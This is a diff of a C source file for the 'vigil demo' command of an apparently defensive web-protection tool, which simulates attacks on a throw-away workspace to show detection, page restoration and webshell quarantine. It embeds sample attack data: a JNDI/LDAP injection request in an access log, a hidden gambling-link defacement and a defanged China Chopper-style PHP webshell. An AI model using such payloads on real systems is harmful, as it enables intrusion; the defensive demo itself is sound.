@@ -1,20 +1,19 @@
-/* `vigil demo`: a newcomer's first taste. Builds a throw-away workspace (a tiny web
- * root and an access log holding a few attacks), runs what vigil can do on it and
- * prints what it found. Grows as capabilities land. */
+/* `vigil demo`: a newcomer's first taste. Builds a throw-away workspace (a web root,
+ * an access log, a config) and runs the real vigil on it the way a duty team would:
+ * baseline the site, start `vigil watch`, then play the attacker — web attacks in
+ * the log, a defaced page, a dropped webshell — and show what vigil saw and did. */
 #include "cmd/cmd.h"
-#include "core/buf.h"
 #include "core/err.h"
-#include "core/store.h"
-#include "protect/quarantine.h"
-#include "protect/webshell.h"
-
-#include <ftw.h>
 
 #include <errno.h>
+#include <ftw.h>
+#include <signal.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 #include <sys/stat.h>
+#include <sys/wait.h>
+#include <time.h>
 #include <unistd.h>
 
 extern const struct cmd_ops cmd_demo;
@@ -39,54 +38,52 @@ static const char demo_access_log[] =
     "192.0.2.99 - - [24/Nov/2026:09:02:00 +0000] \"GET /?x=${jndi:ldap://192.0.2.99/a} HTTP/1.1\" "
     "404 0 \"-\" \"Mozilla/5.0\"\n";
 
-static int
-write_file(const char *dir, const char *name, const char *text)
-{
-	char path[4096];
-	FILE *f;
+/* What a defacer appends: a hidden block of gambling links. */
+static const char demo_defacement[] =
+    "<div style=\"display:none\"><a href=\"http://casino.example/\">casino 博彩</a></div>\n";
 
-	snprintf(path, sizeof(path), "%s/%s", dir, name);
-	f = fopen(path, "w");
+/* A China Chopper style one-liner as an attacker would drop it, defanged: the
+ * stray word inside the brackets is a PHP syntax error, so it can never run. */
+static const char demo_webshell[] = "<?php @eval($_POST[DEFANGED 'pass']);?>\n";
+
+static int
+write_file(const char *path, const char *mode, const char *text)
+{
+	FILE *f = fopen(path, mode);
 	if (!f)
 		return VG_ERR_IO;
 	fputs(text, f);
 	return fclose(f) == 0 ? VG_OK : VG_ERR_IO;
 }
 
-/* A China Chopper style one-liner as an attacker would drop it, defanged: the
- * stray word inside the brackets is a PHP syntax error, so it can never run. */
-static const char demo_webshell[] = "<?php @eval($_POST[DEFANGED 'pass']);?>\n";
-
-/* Drops the defanged webshell into the web root, scans the root and quarantines
- * what is malicious, the way `vigil scan --quarantine` does. */
 static void
-demo_webshell_step(struct vg_ctx *ctx, const char *workspace)
+pause_ms(long ms)
 {
-	struct webshell_scanner *ws = NULL;
-	struct webshell_finding f;
-	char rules[4096], err[512], path[4096], vault[4096], id[QUARANTINE_ID_MAX];
+	struct timespec ts = { ms / 1000, (ms % 1000) * 1000000L };
+	while (nanosleep(&ts, &ts) != 0 && errno == EINTR)
+		;
+}
 
-	if (webshell_find_rules(rules, sizeof(rules)) != VG_OK ||
-	    webshell_scanner_new(rules, &ctx->log, &ws, err, sizeof(err)) != VG_OK) {
-		printf("== webshell: skipped (no rules found; set VIGIL_WEBSHELL_RULES)\n");
-		return;
+/* Starts this same binary with args (NULL-terminated); returns the pid or -1. */
+static pid_t
+spawn(char *const args[])
+{
+	pid_t pid = fork();
+	if (pid == 0) {
+		execv("/proc/self/exe", args);
+		_exit(127);
 	}
-	snprintf(path, sizeof(path), "%s/www/upload", workspace);
-	mkdir(path, 0755);
-	snprintf(path, sizeof(path), "%s/www", workspace);
-	if (write_file(path, "upload/avatar.php", demo_webshell) != VG_OK)
-		goto out;
-	snprintf(path, sizeof(path), "%s/www/upload/avatar.php", workspace);
-	printf("== webshell: an attacker drops %s\n", path);
-	if (webshell_scan_file(ws, path, &f) != VG_OK)
-		goto out;
-	printf("   vigil scan: %s, score %d, families %s\n", f.level, f.score, f.families);
-	snprintf(vault, sizeof(vault), "%s/quarantine", workspace);
-	if (f.score >= WEBSHELL_MALICIOUS &&
-	    quarantine_file(vault, path, &f, id, err, sizeof(err)) == VG_OK)
-		printf("   quarantined as %s into %s (mode 000); %s is gone\n", id, vault, path);
-out:
-	webshell_scanner_free(ws);
+	return pid;
+}
+
+static int
+run_vigil(char *const args[])
+{
+	int status = 0;
+	pid_t pid = spawn(args);
+	if (pid < 0 || waitpid(pid, &status, 0) < 0)
+		return -1;
+	return WIFEXITED(status) ? WEXITSTATUS(status) : -1;
 }
 
 static int
@@ -95,18 +92,19 @@ rm_entry(const char *p, const struct stat *st, int flag, struct FTW *ftw)
 	(void)st;
 	(void)flag;
 	(void)ftw;
+	chmod(p, 0600);	/* quarantined objects are mode 000 */
 	return remove(p);
 }
 
 static int
 run(struct vg_ctx *ctx, int argc, char **argv)
 {
-	char workspace[] = "/tmp/vigil-demo-XXXXXX";
-	char path[4096], err[512];
-	struct vg_store *st = NULL;
-	json_t *stats = NULL;
+	char ws[] = "/tmp/vigil-demo-XXXXXX";
+	char cfg[4200], www[4200], logp[4200], page[4200], shell[4200], yaml[16384];
+	char *rules = NULL;
 	bool keep = false;
-	int version = 0, ret = VG_EXIT_RUNTIME, r;
+	int ret = VG_EXIT_RUNTIME, status;
+	pid_t watcher = -1;
 
 	for (int i = 1; i < argc; i++) {
 		if (strcmp(argv[i], "--keep") == 0)
@@ -114,53 +112,104 @@ run(struct vg_ctx *ctx, int argc, char **argv)
 		else
 			return cmd_usage_error(&cmd_demo, "unknown option '%s'", argv[i]);
 	}
-	if (!mkdtemp(workspace)) {
-		fprintf(stderr, "vigil demo: cannot create workspace: %s\n", strerror(errno));
+	char *rel = NULL;
+	if (cmd_rules_path(ctx, NULL, NULL, &rel) != VG_OK)
+		return VG_EXIT_RUNTIME;
+	/* The workspace config resolves relative paths against itself. */
+	rules = realpath(rel, NULL);
+	free(rel);
+	if (!rules) {
+		fprintf(stderr, "vigil demo: detection rules not found (set $VIGIL_RULES)\n");
 		return VG_EXIT_RUNTIME;
 	}
-	snprintf(path, sizeof(path), "%s/www", workspace);
-	if (mkdir(path, 0755) != 0 || write_file(path, "index.html", demo_index) != VG_OK ||
-	    write_file(workspace, "access.log", demo_access_log) != VG_OK) {
-		fprintf(stderr, "vigil demo: cannot populate %s: %s\n", workspace, strerror(errno));
+	if (!mkdtemp(ws)) {
+		fprintf(stderr, "vigil demo: cannot create workspace: %s\n", strerror(errno));
+		free(rules);
+		return VG_EXIT_RUNTIME;
+	}
+	snprintf(www, sizeof(www), "%s/www", ws);
+	snprintf(page, sizeof(page), "%s/www/index.html", ws);
+	snprintf(shell, sizeof(shell), "%s/www/upload/avatar.php", ws);
+	snprintf(logp, sizeof(logp), "%s/access.log", ws);
+	snprintf(cfg, sizeof(cfg), "%s/vigil.yaml", ws);
+	snprintf(yaml, sizeof(yaml),
+	    "store: {path: %s/vigil.db}\n"
+	    "log: {level: warn}\n"
+	    "monitor:\n  rules: %s\n  sources:\n    - {name: web, path: %s, format: combined}\n"
+	    "webroots:\n  - {name: demo-site, path: %s, policy: restore}\n"
+	    "protect: {backup_dir: %s/backup, quarantine_dir: %s/quarantine}\n",
+	    ws, rules, logp, www, ws, ws);
+	if (mkdir(www, 0755) != 0 || write_file(page, "w", demo_index) != VG_OK ||
+	    write_file(logp, "w", "") != VG_OK || write_file(cfg, "w", yaml) != VG_OK) {
+		fprintf(stderr, "vigil demo: cannot populate %s: %s\n", ws, strerror(errno));
 		goto out;
 	}
-	printf("== vigil demo: workspace %s\n", workspace);
-	printf("   web root   %s/www (1 page)\n", workspace);
-	printf("   access log %s/access.log (6 requests, 4 of them attacks)\n", workspace);
+	snprintf(shell, sizeof(shell), "%s/www/upload", ws);
+	mkdir(shell, 0755);
+	snprintf(shell, sizeof(shell), "%s/www/upload/avatar.php", ws);
+	fflush(stdout);
 
-	snprintf(path, sizeof(path), "%s/vigil.db", workspace);
-	r = store_open("sqlite", path, &ctx->log, &st, err, sizeof(err));
-	if (r != VG_OK) {
-		fprintf(stderr, "vigil demo: %s\n", err);
+	printf("== vigil demo: workspace %s (config %s)\n\n", ws, cfg);
+	printf("== 1. before the event: back up the web root (the trusted baseline)\n");
+	fflush(stdout);
+	char *backup[] = { "vigil", "--config", cfg, "backup", "create", NULL };
+	if (run_vigil(backup) != 0)
 		goto out;
-	}
-	if (store_schema_version(st, &version) != VG_OK || store_stats(st, &stats) != VG_OK) {
-		fprintf(stderr, "vigil demo: %s\n", store_errmsg(st));
+
+	printf("\n== 2. during the event: `vigil watch` follows %s and guards %s\n", logp, www);
+	fflush(stdout);
+	char *watch[] = { "vigil", "--config", cfg, "watch", NULL };
+	if ((watcher = spawn(watch)) < 0)
 		goto out;
+	pause_ms(1500);	/* rules compiled, watches set */
+
+	printf("\n-- the attacker scans the site (6 requests land in the access log)\n");
+	fflush(stdout);
+	write_file(logp, "a", demo_access_log);
+	pause_ms(800);
+	printf("\n-- the attacker defaces the home page with hidden gambling links\n");
+	fflush(stdout);
+	write_file(page, "a", demo_defacement);
+	pause_ms(800);
+	printf("\n-- the attacker drops a webshell at %s\n", shell);
+	fflush(stdout);
+	write_file(shell, "w", demo_webshell);
+	pause_ms(800);
+
+	kill(watcher, SIGTERM);
+	waitpid(watcher, &status, 0);
+	watcher = -1;
+
+	FILE *f = fopen(page, "r");
+	char first[256] = "";
+	bool clean = true;
+	if (f) {
+		char line[1024];
+		while (fgets(line, sizeof(line), f))
+			clean = clean && !strstr(line, "casino");
+		fclose(f);
 	}
-	store_audit(st, "demo", "demo.start", workspace);
-	printf("== store: %s created at schema version %d (%zu tables)\n", path, version,
-	    json_object_size(stats));
-	demo_webshell_step(ctx, workspace);
-	ret = VG_EXIT_OK;
+	snprintf(first, sizeof(first), "%s", clean ? "restored (no injected links left)" :
+						    "STILL DEFACED");
+	printf("\n== 3. the result\n   home page: %s\n   webshell:  %s\n", first,
+	    access(shell, F_OK) == 0 ? "STILL PRESENT" : "removed from the web root, kept in the vault");
+	printf("   the store (alerts, evidence lines, audit trail):\n");
+	fflush(stdout);
+	char *info[] = { "vigil", "--config", cfg, "store", "info", NULL };
+	run_vigil(info);
+	ret = clean && access(shell, F_OK) != 0 ? VG_EXIT_OK : VG_EXIT_RUNTIME;
+	printf("\nNext: `vigil scan-log FILE`, `vigil scan DIR`, `vigil watch --config FILE` "
+	       "(see README).\n");
 out:
-	json_decref(stats);
-	store_close(st);
-	if (keep) {
-		printf("== workspace kept: %s\n", workspace);
-	} else {
-		char cmd_path[4200];
-		/* Only files the demo itself created are removed. */
-		const char *names[] = { "www/index.html", "www/upload/avatar.php", "www/upload",
-			"access.log", "vigil.db", "vigil.db-wal", "vigil.db-shm", "www" };
-		snprintf(cmd_path, sizeof(cmd_path), "%s/quarantine", workspace);
-		nftw(cmd_path, rm_entry, 8, FTW_DEPTH | FTW_PHYS);	/* the demo's own vault */
-		for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
-			snprintf(cmd_path, sizeof(cmd_path), "%s/%s", workspace, names[i]);
-			remove(cmd_path);
-		}
-		rmdir(workspace);
+	if (watcher > 0) {
+		kill(watcher, SIGTERM);
+		waitpid(watcher, &status, 0);
 	}
+	if (keep)
+		printf("== workspace kept: %s\n", ws);
+	else
+		nftw(ws, rm_entry, 16, FTW_DEPTH | FTW_PHYS);
+	free(rules);
 	return ret;
 }
 
@@ -170,8 +219,12 @@ const struct cmd_ops cmd_demo = {
 	.help =
 	    "usage: vigil demo [--keep]\n"
 	    "\n"
-	    "Builds a throw-away workspace under /tmp (a tiny web root and an access log\n"
-	    "with a few attacks), runs vigil's capabilities on it and prints what they\n"
-	    "found. --keep leaves the workspace in place to explore.\n",
+	    "Builds a throw-away workspace under /tmp (a web root, an access log, a config),\n"
+	    "backs the web root up, starts `vigil watch` on it, then plays the attacker:\n"
+	    "web attacks in the access log, a defaced page, a dropped (defanged) webshell.\n"
+	    "Shows the alerts as they happen, the page restored, the webshell quarantined,\n"
+	    "and what the store recorded. --keep leaves the workspace to explore.\n"
+	    "\n"
+	    "exit: 0 when vigil restored the page and quarantined the webshell.\n",
 	.run = run,
 };
